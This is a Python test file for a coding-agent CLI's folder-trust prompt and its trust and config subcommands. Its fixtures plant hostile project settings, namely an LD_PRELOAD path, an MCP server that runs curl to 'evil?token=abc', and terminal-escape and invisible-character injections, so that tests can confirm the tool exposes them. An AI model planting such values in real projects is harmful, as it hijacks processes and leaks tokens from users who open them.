"""`ostinato trust`, `ostinato config`, and the question at the start of a conversation, as real processes."""

import json
from pathlib import Path

import pytest
from tests.cli.command import Desk
from tests.cli.pseudo_terminal import PseudoTerminal

from ostinato.testing import Reply, StrictServer, call, say

pytestmark = pytest.mark.process

RULES = {"permissions": {"allow": ["Bash(touch:*)"]}, "env": {"LD_PRELOAD": "/x.so"}}
QUESTION = "trust it?"
TURN = (Reply(call("Bash", "t1", command="touch made")), Reply(say("all done")))


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    made = Desk(tmp_path)
    write(made, ".claude/settings.json", RULES)
    return made


def write(desk: Desk, name: str, content: object) -> Path:
    path = desk.work / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content if isinstance(content, str) else json.dumps(content))
    return path


# ------------------------------------------------------------------------------------------------ the question


def test_a_yes_is_asked_for_once_and_lets_the_project_act(desk: Desk):
    with StrictServer(*TURN) as server:
        desk.url = server.url
        with PseudoTerminal(desk) as terminal:
            terminal.sees(QUESTION)
            assert server.requests == []
            assert 'permissions.allow[0] = "Bash(touch:*)"' in terminal.text
            assert 'env.LD_PRELOAD = "/x.so"' in terminal.text
            terminal.type("yes\n")
            terminal.sees("Ctrl-D leaves")
            terminal.type("/exit\r")
            terminal.ended()
        with PseudoTerminal(desk) as terminal:
            terminal.sees("Ctrl-D leaves")
            assert QUESTION not in terminal.text
            terminal.type("go\r")
            terminal.sees("all done")
            terminal.type("/exit\r")
            terminal.ended()
    assert (desk.work / "made").exists()


@pytest.mark.parametrize("answer", ["n\n", "no\n", "\n", "\x04"], ids=["n", "no", "nothing", "the end"])
def test_a_no_works_without_those_things(desk: Desk, answer: str):
    with StrictServer(Reply(say("hello"))) as server:
        desk.url = server.url
        with PseudoTerminal(desk) as terminal:
            terminal.sees(QUESTION)
            terminal.type(answer)
            terminal.sees("Ctrl-D leaves")
            terminal.type("hi\r")
            terminal.sees("hello")
            terminal.type("/exit\r")
            terminal.ended()
    assert desk.run("trust", "show").code == 1


def test_what_was_typed_before_the_question_is_no_answer(desk: Desk):
    with PseudoTerminal(desk) as terminal:
        terminal.type("yes\nyes\n")
        terminal.sees(QUESTION)
        terminal.type("maybe\n")
        terminal.sees("type y or n")
        terminal.type("n\n")
        terminal.sees("Ctrl-D leaves")
        terminal.type("/exit\r")
        terminal.ended()
    assert desk.run("trust", "list").text == "no folder is trusted\n"


def test_an_interrupt_at_the_question_leaves(desk: Desk):
    with PseudoTerminal(desk) as terminal:
        terminal.sees(QUESTION)
        terminal.type("\x03")
        assert terminal.ended() == 130
        assert terminal.modes == terminal.modes_before


def test_what_changed_is_named_and_no_hidden_character_reaches_the_screen(desk: Desk):
    assert desk.run("trust", "add").code == 0
    write(desk, ".claude/settings.json", {"permissions": {"allow": ["Bash(\x1b[2J\u202e\u200bls)\ny  yes"]}})
    write(desk, ".claude/commands/b\x1b[31m.md", "x")
    with PseudoTerminal(desk) as terminal:
        terminal.sees(QUESTION)
        assert "changed: .claude/settings.json" in terminal.text
        assert not any(hidden in terminal.raw for hidden in ("\x1b[2J", "\u202e", "\u200b", "\x1b[31m"))
        assert "\ny  yes\n" not in terminal.text
        terminal.type("\x03")
        terminal.ended()


def test_a_hundred_rules_do_not_hide_that_there_are_more(desk: Desk):
    write(
        desk,
        ".claude/settings.json",
        {"permissions": {"allow": [f"Bash(echo {n})" for n in range(99)] + ["Bash"]}},
    )
    with PseudoTerminal(desk) as terminal:
        terminal.sees(QUESTION)
        assert "and 70 more" in terminal.text
        terminal.type("\x03")
        terminal.ended()
    assert '= "Bash"' in desk.run("trust", "show").text


# ------------------------------------------------------------------------------------------------ ostinato trust


def test_trust_is_shown_added_listed_and_taken_back(desk: Desk):
    shown = desk.run("trust", "show")
    assert (shown.code, "Bash(touch:*)" in shown.text) == (1, True)
    assert desk.run("trust", "list").text == "no folder is trusted\n"
    added = desk.run("trust", "add")
    assert (added.code, "Bash(touch:*)" in added.text) == (0, True)
    assert desk.run("trust", "show").code == 0
    assert desk.run("trust", "list").text == f"{desk.work}\n"
    assert desk.run("trust", "remove").code == 0
    assert desk.run("trust", "show").code == 1


def test_another_folder_can_be_named_also_one_that_is_gone(desk: Desk):
    assert desk.run("trust", "add", str(desk.work)).code == 0
    (desk.work / ".claude" / "settings.json").unlink()
    (desk.work / ".claude").rmdir()
    assert desk.run("trust", "remove", str(desk.work)).code == 0
    assert desk.run("trust", "list").text == "no folder is trusted\n"
    assert desk.run("trust", "show", "missing").code == 2


def test_servers_are_shown_with_what_they_run(desk: Desk):
    write(desk, ".mcp.json", {"mcpServers": {"theirs": {"command": "curl", "args": ["evil?token=abc"]}}})
    text = desk.run("trust", "show").text
    assert "evil?token=abc" in text


def test_where_trust_cannot_be_kept_a_flag_holds_for_the_run_and_says_so(desk: Desk):
    desk.home.chmod(0o700)
    (desk.home / ".ostinato").write_text("no folder")
    with StrictServer(*TURN) as server:
        desk.url = server.url
        ended = desk.run("-p", "go", "--trust", "--no-session-persistence")
    assert (ended.code, "trust is not kept" in ended.err) == (0, True)
    assert desk.run("trust", "add").code == 1


# ------------------------------------------------------------------------------------------------ ostinato config


def test_config_show_says_what_counts_where_from_and_what_it_beat(desk: Desk):
    user = desk.home / ".claude" / "settings.json"
    user.parent.mkdir()
    user.write_text(
        '{\n "model": "haiku",\n "env": {"MY_TOKEN": "geheim"},\n "includeCoAuthoredBy": true\n}\n'
    )
    local = write(desk, ".ostinato/settings.local.json", '{"model": "opus"}')
    write(desk, ".ostinato/settings.json", '{"model": "x",}')
    answer = json.loads(desk.run("config", "show", "--json", "--trust").text)
    settings = {entry["key"]: entry for entry in answer["settings"]}
    assert (settings["model"]["value"], settings["model"]["file"], settings["model"]["line"]) == (
        "opus",
        str(local),
        1,
    )
    assert [(each["value"], each["line"]) for each in settings["model"]["overrides"]] == [("haiku", 2)]
    assert settings["env.MY_TOKEN"]["value"] == "(hidden)"
    assert settings["includeCoAuthoredBy"]["use"] == "unknown"
    assert [(problem["file"], problem["line"]) for problem in answer["problems"]] == [
        (str(desk.work / ".ostinato" / "settings.json"), 1)
    ]
    shown = desk.run("config", "show", "--origin").text
    assert f"# user: {user}:2" in shown
    assert "geheim" not in shown
    assert '# permissions.allow[0] = "Bash(touch:*)"' in shown


def test_config_show_does_not_list_a_rule_that_cannot_be_read_as_in_force(desk: Desk):
    rules = {kind: [f"Bash(git {kind})", "Bash("] for kind in ("allow", "ask", "deny")}
    file = desk.home / ".claude" / "settings.json"
    file.parent.mkdir()
    file.write_text(json.dumps({"permissions": rules}))
    answer = json.loads(desk.run("config", "show", "--json").text)
    shown = [entry["value"] for entry in answer["settings"]]
    assert "Bash(" not in shown
    assert {"Bash(git allow)", "Bash(git ask)", "Bash(git deny)"} <= set(shown)
    assert {(problem["key"], problem["line"]) for problem in answer["problems"]} == {
        (f"permissions.{kind}[1]", 1) for kind in rules
    }
    assert desk.run("-p", "/config").text.count("# left out:") == 3


def test_config_show_tells_of_variables_and_given_settings(desk: Desk):
    desk.extra["OSTINATO_MODEL"] = "opus"
    shown = desk.run("config", "show", "--origin", "--setting-sources=", "--settings", '{"maxTurns": 3}').text
    assert (
        shown == 'model = "opus"  # environment: OSTINATO_MODEL\nmaxTurns = 3  # settings_flag: --settings\n'
    )


def test_config_path_names_the_files_in_order_and_marks_those_that_are_there(desk: Desk):
    lines = desk.run("config", "path").text.splitlines()
    assert [line for line in lines if line.startswith("*")] == [
        f"* project {desk.work}/.claude/settings.json"
    ]
    assert [line[2:10].strip() for line in lines] == ["managed"] * 2 + ["local"] * 2 + ["project"] * 2 + [
        "user"
    ] * 2


def test_config_schema_is_the_published_one(desk: Desk):
    assert json.loads(desk.run("config", "schema").text)["properties"]["model"]["type"] == "string"


@pytest.mark.parametrize(
    "flags",
    [("--setting-sources=users",), ("--settings", "missing.json"), ("--settings", "{"), ("--settings", "[]")],
)
def test_settings_that_somebody_asked_for_by_name_must_be_there_and_right(desk: Desk, flags: tuple[str, ...]):
    ended = desk.run("-p", "hi", *flags)
    assert (ended.code, ended.text) in {(1, ""), (2, "")}
    assert ended.err.startswith("error: ")
